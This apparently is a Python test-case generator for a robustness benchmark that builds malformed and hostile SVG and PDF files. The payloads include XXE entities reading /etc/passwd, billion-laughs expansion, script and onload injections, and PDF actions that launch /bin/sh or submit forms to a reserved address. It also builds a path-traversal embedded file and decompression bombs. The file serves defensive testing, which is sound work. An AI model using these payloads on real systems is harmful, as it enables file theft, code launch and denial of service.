"""SVG and PDF files that draw without end, refer to other files, or are damaged."""

from __future__ import annotations

import zlib
from collections.abc import Iterator

from benchmarks.bad_inputs.case import Case, changed, cut

_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="210mm" height="100mm" viewBox="0 0 210 100">{}</svg>'
_AWAY = "http://198.51.100.7/x"
"""An address of a network that is kept for examples: whoever asks it is found out."""


def svg(inside: str) -> bytes:
    """A drawing as large as half a page."""
    return _SVG.format(inside).encode()


def pdf(
    *objects: bytes,
    content: bytes = b"0 0 m 100 100 l S",
    resources: bytes = b"<<>>",
    page: bytes = b"",
    catalogue: bytes = b"",
    box: bytes = b"0 0 300 400",
) -> bytes:
    """A PDF of one page; ``objects`` are numbered from 5 on."""
    body = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox ["
        + box
        + b"] /Contents 4 0 R /Resources "
        + resources
        + b" "
        + page
        + b" >>",
        stream(b"", content),
        *objects,
    ]
    out, places = b"%PDF-1.7\n", []
    for number, one in enumerate(body, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1)
    return (
        out
        + head
        + table
        + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(body) + 1, len(out))
    )


def stream(entries: bytes, data: bytes) -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def drawings() -> Iterator[Case]:
    """All of them."""
    good = {
        "page.svg": svg("".join(f'<path d="M5 {20 + 3 * n}H200" stroke="#000"/>' for n in range(5))),
        "page.pdf": pdf(),
    }
    yield from cut(good)
    yield from changed(good, 10, 2)
    for what, inside in {**_references(), **_endless()}.items():
        yield Case.of(f"an SVG with {what}", "drawing.svg", svg(inside))
    yield from _documents()
    for what, data in {**_pdf_references(), **_pdf_endless()}.items():
        yield Case.of(f"a PDF with {what}", "drawing.pdf", data)


def _references() -> dict[str, str]:
    return {
        "a picture elsewhere": f'<image href="{_AWAY}.png" width="10" height="10"/>',
        "a picture elsewhere, old style": f'<image xlink:href="{_AWAY}.png" width="10" height="10"/>',
        "a picture on this computer": '<image href="file:///etc/passwd" width="10" height="10"/>',
        "a picture inside": '<image href="data:image/svg+xml;base64,PHN2Zy8+" width="10" height="10"/>',
        "a symbol elsewhere": f'<use href="{_AWAY}.svg#a"/>',
        "a style sheet elsewhere": f'<style>@import "{_AWAY}.css";</style>',
        "a font elsewhere": f'<style>@font-face {{ font-family: a; src: url({_AWAY}.woff) }}</style><text font-family="a">x</text>',
        "a fill elsewhere": f'<rect fill="url({_AWAY}.svg#a)" width="10" height="10"/>',
        "a filter elsewhere": f'<rect filter="url({_AWAY}.svg#a)" width="10" height="10"/>',
        "a filter's picture": f'<filter id="f"><feImage href="{_AWAY}.png"/></filter><rect filter="url(#f)" width="10" height="10"/>',
        "an escaped style": f"<style>@\\69mport '{_AWAY}'; rect {{ fill: \\75rl({_AWAY}) }}</style><rect width='9' height='9'/>",
        "a style in an attribute": f"<rect style=\"fill:\\75 rl('{_AWAY}')\" width='9' height='9'/>",
        "a script": "<script>fetch('http://198.51.100.7')</script>",
        "HTML": f'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{_AWAY}"/></foreignObject>',
        "an event": '<rect onload="alert(1)" width="10" height="10"/>',
        "an animation": f'<animate attributeName="href" to="{_AWAY}"/>',
        "a colour profile": f'<color-profile name="a" xlink:href="{_AWAY}.icc"/>',
        "a cursor": f'<cursor xlink:href="{_AWAY}"/>',
        "an included file": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    }  # fmt: skip


def _endless() -> dict[str, str]:
    def chain(head: str, each: str, last: str, depth: int, times: int) -> str:
        parts = [head.format(n=0, inside=last)]
        parts += [head.format(n=n, inside=each.format(n=n - 1) * times) for n in range(1, depth)]
        return "<defs>" + "".join(parts) + "</defs>" + each.format(n=depth - 1)

    rectangle = '<rect width="9" height="9"/>'
    painted = '<rect width="9" height="9" fill="url(#a{n})"/>'
    pattern = '<pattern id="a{n}" width="9" height="9" patternUnits="userSpaceOnUse">{inside}</pattern>'
    return {
        "symbols in symbols": chain('<g id="a{n}">{inside}</g>', '<use href="#a{n}"/>', rectangle, 12, 10),
        "a symbol in itself": '<g id="a"><use href="#a"/></g><use href="#a"/>',
        "patterns in patterns": chain(pattern, painted, rectangle, 10, 10),
        "a pattern in itself": '<pattern id="a" width="9" height="9"><rect width="9" height="9" fill="url(#a)"/></pattern><rect width="9" height="9" fill="url(#a)"/>',
        "masks in masks": chain('<mask id="a{n}">{inside}</mask>', '<rect width="9" height="9" mask="url(#a{n})"/>', rectangle, 10, 10),
        "clips in clips": chain('<clipPath id="a{n}">{inside}</clipPath>', '<rect width="9" height="9" clip-path="url(#a{n})"/>', rectangle, 10, 10),
        "markers in markers": chain('<marker id="a{n}" markerWidth="9" markerHeight="9">{inside}</marker>', '<path d="M0 0L1 1L2 2L3 3L4 4L5 5L6 6L7 7L8 8" marker-mid="url(#a{n})"/>', rectangle, 10, 2),
        "a gradient in itself": '<linearGradient id="a" href="#a"/><rect width="9" height="9" fill="url(#a)"/>',
        "gradients in a circle": '<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/><rect width="9" height="9" fill="url(#a)"/>',
        "a billion dashes": '<path d="M0 0H1e9" stroke="#000" stroke-dasharray="0.001"/>',
        "a billion dashes, in a style": '<path d="M0 0L200 90" transform="scale(1e6)" stroke="#000" style="stroke-dasharray:1e-7"/>',
        "a picture tiled without end": '<pattern id="a" width="1e-9" height="1e-9" patternUnits="userSpaceOnUse"><rect width="1" height="1"/></pattern><rect width="200" height="90" fill="url(#a)"/>',
        "a huge pattern": '<pattern id="a" width="1e6" height="1e6" patternUnits="userSpaceOnUse"><rect width="1" height="1"/></pattern><rect width="200" height="90" fill="url(#a)"/>',
        "a huge mask": '<mask id="a" width="1e6" height="1e6" maskUnits="userSpaceOnUse"><rect width="1e6" height="1e6"/></mask><rect width="1e6" height="1e6" mask="url(#a)"/>',
        "groups within groups": "<g>" * 3000 + "</g>" * 3000,
        "a million elements": "<g/>" * 1_000_000,
        "a path of a million arcs": '<path d="M0 0' + "a9 9 0 0 1 9 9" * 200_000 + '" stroke="#000"/>',
        "a blur without end": '<filter id="f"><feGaussianBlur stdDeviation="1e9"/></filter><rect filter="url(#f)" width="100" height="50"/>',
        "turbulence": '<filter id="f"><feTurbulence numOctaves="1000000000" baseFrequency="0.05"/></filter><rect filter="url(#f)" width="200" height="90"/>',
        "a letter a mile high": '<text font-size="1e9">A</text>',
        "text a million letters long": f"<text>{'A' * 1_000_000}</text>",
        "a transformation without size": '<g transform="matrix(0 0 0 0 0 0)"><rect width="9" height="9"/></g>',
        "numbers that are none": '<rect x="NaN" y="1e999" width="-1" height="inf"/><path d="M NaN 1e999 L"/>',
        "a selector that tries everything": "<style>" + "g " * 300 + "rect{fill:red}</style>" + "<g>" * 150 + rectangle * 200 + "</g>" * 150,
    }  # fmt: skip


def _documents() -> Iterator[Case]:
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    head = '<svg xmlns="http://www.w3.org/2000/svg" width="100mm" height="100mm"><text>{}</text></svg>'
    yield Case.of(
        "an SVG with a billion laughs",
        "d.svg",
        f'<!DOCTYPE svg [<!ENTITY a0 "ha">{laughs}]>{head.format("&a9;")}'.encode(),
    )
    yield Case.of(
        "an SVG with a file as an entity",
        "d.svg",
        f'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>{head.format("&a;")}'.encode(),
    )
    yield Case.of(
        "an SVG with an entity elsewhere",
        "d.svg",
        f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "{_AWAY}.dtd"> %a;]>{head.format("")}'.encode(),
    )
    yield Case.of(
        "an SVG with a document type elsewhere",
        "d.svg",
        f'<!DOCTYPE svg SYSTEM "{_AWAY}.dtd">{head.format("")}'.encode(),
    )
    yield Case.of(
        "an SVG with a style sheet before it",
        "d.svg",
        f'<?xml-stylesheet href="{_AWAY}.css"?>{head.format("")}'.encode(),
    )
    yield Case.of(
        "an SVG in a foreign encoding", "d.svg", b'<?xml version="1.0" encoding="EBCDIC-CP-US"?><svg/>'
    )
    yield Case.of("an SVG in UTF-7", "d.svg", b'<?xml version="1.0" encoding="UTF-7"?>+ADw-svg/+AD4-')
    for sides in (
        ("0", "0"),
        ("-5", "-5"),
        ("1e9mm", "1mm"),
        ("NaN", "NaN"),
        ("100%", "100%"),
        ("1", "100000"),
    ):
        yield Case.of(
            f"an SVG of {sides[0]} by {sides[1]}",
            "d.svg",
            f'<svg xmlns="http://www.w3.org/2000/svg" width="{sides[0]}" height="{sides[1]}"/>'.encode(),
        )
    yield Case.of(
        "an SVG whose view is infinite",
        "d.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e300 1e300"><rect width="1"/></svg>',
    )
    yield Case.of(
        "an SVG whose view is empty",
        "d.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" width="100mm" height="100mm" viewBox="0 0 0 0"><rect width="1"/></svg>',
    )
    yield Case.of(
        "an SVG inside an SVG without end",
        "d.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" width="9in" height="9in">' + b"<svg>" * 5000,
    )
    yield Case.of(
        "an SVG with an attribute of 5 MB",
        "d.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" width="9in" height="9in" id="' + b"x" * 5_000_000 + b'"/>',
    )


def _pdf_references() -> dict[str, bytes]:
    def act(action: bytes) -> bytes:
        return pdf(catalogue=b"/OpenAction << " + action + b" >>")

    away = _AWAY.encode()
    return {
        "an address that opens": act(b"/S /URI /URI (%s)" % away),
        "a program that starts": act(b"/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >>"),
        "a script": act(b"/S /JavaScript /JS (app.launchURL('%s'))" % away),
        "a document elsewhere": act(b"/S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\a.pdf) /D [0 /Fit]"),
        "a form that is sent": act(b"/S /SubmitForm /F << /FS /URL /F (%s) >>" % away),
        "data that are imported": act(b"/S /ImportData /F (/etc/passwd)"),
        "a film": pdf(page=b"/Annots [<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (%s) >> >>]" % away),
        "a stream in another file": pdf(b"<< /Length 0 /F << /FS /URL /F (%s) >> /FFilter /FlateDecode >>\nstream\n\nendstream" % away, resources=b"<< /XObject << /A 5 0 R >> >>", content=b"/A Do"),
        "a page of another file": pdf(b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (/etc/passwd) /Page 0 >> /Length 0 >>\nstream\n\nendstream", resources=b"<< /XObject << /A 5 0 R >> >>", content=b"/A Do"),
        "a font that is not there": pdf(b"<< /Type /Font /Subtype /TrueType /BaseFont /../../etc/passwd /FontDescriptor << /FontFile2 99 0 R /FontName /x >> >>", resources=b"<< /Font << /F 5 0 R >> >>", content=b"BT /F 12 Tf (A) Tj ET"),
        "a font that is rubbish": pdf(b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor << /Type /FontDescriptor /FontName /X /FontFile2 6 0 R >> >>", stream(b"", b"\x00\x01\x00\x00" + b"\xff" * 4000), resources=b"<< /Font << /F 5 0 R >> >>", content=b"BT /F 12 Tf (ABC) Tj ET"),
        "an XFA form": pdf(stream(b"", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>x</script></xdp:xdp>"), catalogue=b"/AcroForm << /XFA 5 0 R >>"),
        "a file inside": pdf(stream(b"/Type /EmbeddedFile", b"MZ"), catalogue=b"/Names << /EmbeddedFiles << /Names [(../../owned) << /F (../../owned) /EF << /F 5 0 R >> >>] >> >>"),
    }  # fmt: skip


def _pdf_endless() -> dict[str, bytes]:
    def forms(depth: int, times: int) -> bytes:
        objects = []
        for n in range(depth):
            inner = b"/A Do " * times if n + 1 < depth else b"0 0 m 9 9 l S"
            resources = b"/Resources << /XObject << /A %d 0 R >> >>" % (6 + n) if n + 1 < depth else b""
            objects.append(stream(b"/Type /XObject /Subtype /Form /BBox [0 0 900 900] " + resources, inner))
        return pdf(*objects, resources=b"<< /XObject << /A 5 0 R >> >>", content=b"/A Do")

    def picture(width: int, height: int, data: bytes, more: bytes) -> bytes:
        entries = b"/Type /XObject /Subtype /Image /Width %d /Height %d %s" % (width, height, more)
        return pdf(
            stream(entries, data),
            resources=b"<< /XObject << /A 5 0 R >> >>",
            content=b"300 0 0 400 0 0 cm /A Do",
        )

    flat = b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode"
    once = zlib.compress(bytes(100_000_000), 9)
    tiled = stream(
        b"/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 /Resources <<>>",
        b"0 0 1 1 re f",
    )
    return {
        "forms in forms": forms(12, 10),
        "forms in forms, deeper": forms(28, 2),
        "a form in itself": pdf(stream(b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /A 5 0 R >> >>", b"/A Do /A Do"), resources=b"<< /XObject << /A 5 0 R >> >>", content=b"/A Do"),
        "a picture of 60000 x 60000": picture(60_000, 60_000, once, flat),
        "a picture of 60000 x 60000 in one bit": picture(60_000, 60_000, once, flat.replace(b"8", b"1")),
        "a picture of 2 billion a side": picture(2**31 - 1, 2**31 - 1, once[:1000], flat),
        "a picture packed twice": picture(9000, 9000, zlib.compress(once, 9), flat.replace(b"/FlateDecode", b"[/FlateDecode /FlateDecode]")),
        "a page of ten million lines": _packed_page(b"0 0 m 300 400 l S\n" * 3_000_000),
        "a page of a million circles": _packed_page(b"0 0 m 0 99 99 99 99 0 c 0 -99 -99 -99 0 0 c f\n" * 300_000),
        "a pattern without end": pdf(tiled, resources=b"<< /Pattern << /P 5 0 R >> >>", content=b"/Pattern cs /P scn 0 0 300 400 re f"),
        "dashes without end": pdf(content=b"[0.00001] 0 d 0 0 m 300 400 l S"),
        "a page of 10 km": pdf(box=b"0 0 30000000 30000000"),
        "a page of nothing": pdf(box=b"0 0 0 0"),
        "a page that is negative": pdf(box=b"300 400 0 0 "),
        "a page of no numbers": pdf(box=b"/A /B (c) <</D 1>>"),
        "a box in a circle": pdf(b"5 0 R", page=b"/MediaBox 5 0 R"),
        "a page tree in a circle": pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [2 0 R] /Count 9"),
        "a billion pages": pdf().replace(b"/Count 1", b"/Count 999999999"),
        "minus one page": pdf().replace(b"/Count 1", b"/Count -1"),
        "a page missing": pdf().replace(b"[3 0 R]", b"[9 0 R]"),
        "a table that lies": pdf().replace(b"0000000", b"9999999"),
        "brackets within brackets": pdf(content=b"[" * 200_000 + b"]" * 200_000),
        "states within states": pdf(content=b"q " * 500_000),
        "a shading by a program": pdf(b"<< /ShadingType 1 /ColorSpace /DeviceGray /Function 6 0 R >>", stream(b"/FunctionType 4 /Domain [0 1 0 1] /Range [0 1]", b"{ " + b"dup mul " * 100_000 + b"}"), resources=b"<< /Shading << /S 5 0 R >> >>", content=b"/S sh"),
        "a locked door": pdf().replace(b"trailer <<", b"trailer << /Encrypt << /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 >> /ID [(a)(b)]"),
    }  # fmt: skip


def _packed_page(content: bytes) -> bytes:
    packed = zlib.compress(content, 9)
    plain = pdf(content=b"X")
    before, after = plain.split(b"<< /Length 1  >>\nstream\nX\nendstream")
    return before + stream(b"/Filter /FlateDecode", packed) + after
